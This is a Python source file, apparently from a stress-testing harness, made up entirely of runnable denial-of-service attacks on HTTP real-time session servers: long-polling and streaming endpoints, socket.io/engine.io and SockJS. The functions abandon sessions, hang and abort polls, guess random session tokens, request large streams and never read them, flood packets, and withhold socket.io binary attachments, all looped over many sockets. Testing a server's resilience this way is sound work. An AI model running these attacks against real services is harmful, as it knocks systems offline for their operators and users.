"""Sessions over HTTP, of each protocol that is spoken there."""
import asyncio
import json
import random

import frames
from over_http1 import HEAD
from target import attack, over_and_over


def post(path, *lines):
    body = "\n".join(lines).encode()
    return b"POST %s HTTP/1.1\r\n%sContent-Length: %d\r\n\r\n%s" % (path.encode(), HEAD, len(body), body)


def open_by(transport, *lines):
    """A session with these packets."""
    return post(f"/everwire/{transport}", frames.opening(serial=1), "c", *lines)


@attack
async def sessions_left_behind(target, sockets):
    """Opened, and never heard of again."""
    async def one(victim):
        while target.on:
            await victim.send(open_by("long_polling"))
            await victim.answer()
    await over_and_over(target, sockets // 4, one)


@attack
async def polls_given_up(target, sockets):
    """Polls that hang, each cut off by its client."""
    async def one(victim):
        await victim.send(open_by("long_polling"))
        _, answer = await victim.answer()
        welcome, *messages = answer.splitlines()
        welcome = json.loads(welcome[1:])
        head = {"session": welcome["session"], "token": welcome["token"], "attach": 1, "received": len(messages), "consumed": 0}
        for poll in range(1, 100):
            other = await target.connect()
            await other.send(post("/everwire/long_polling", "P" + json.dumps({**head, "poll": poll})))
            await asyncio.sleep(0.01)
            other.abort()
    await over_and_over(target, sockets // 4, one)


@attack
async def tokens_guessed(target, sockets):
    async def one(victim):
        while target.on:
            head = {"session": f"{random.getrandbits(128):x}", "token": f"{random.getrandbits(128):x}", "received": 0, "consumed": 0}
            await victim.send(post("/everwire/send", "P" + json.dumps(head)))
            await victim.answer()
    await over_and_over(target, sockets, one)


@attack
async def streams_unread(target, sockets):
    """Asks for 4 MB over each way down that is a stream, and reads none of it."""
    async def one(victim):
        events = [f'e["message","{"x" * 10_000}"]'] * 6
        counts = [f'e["count",{1 << 30}]']
        await victim.send(open_by("streaming", *events, *counts))
        await victim.unread()
    await over_and_over(target, sockets, one, receive=4096)


@attack
async def posts_of_crumbs(target, sockets):
    """As many packets as a body may have, each refused."""
    async def one(victim):
        while target.on:
            await victim.send(open_by("long_polling", *['e["",1]'] * 9000))
            await victim.answer()
    await over_and_over(target, sockets // 4, one)


@attack
async def socket_io_attachments(target, sockets):
    """Announced by an event and sent, but for the last."""
    async def one(victim):
        await victim.send(b"GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
                          b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")
        await victim.answer()
        places = ",".join(f'{{"_placeholder":true,"num":{n}}}' for n in range(100))
        await victim.send(frames.packet("40") + frames.packet(f'45100-["message",{places}]'))
        for _ in range(99):
            await victim.send(frames.frame(b"x" * 100_000, frames.BINARY))
        await victim.until_the_end()
    await over_and_over(target, sockets, one)


@attack
async def engine_io_sessions(target, sockets):
    """Opened and left alone."""
    async def one(victim):
        while target.on:
            await victim.send(b"GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: a\r\n\r\n")
            await victim.answer()
    await over_and_over(target, sockets // 4, one)


@attack
async def sock_js_sessions(target, sockets):
    async def one(victim):
        while target.on:
            await victim.send(post(f"/echo/000/{random.randrange(1 << 60)}/xhr"))
            await victim.answer()
    await over_and_over(target, sockets // 4, one)
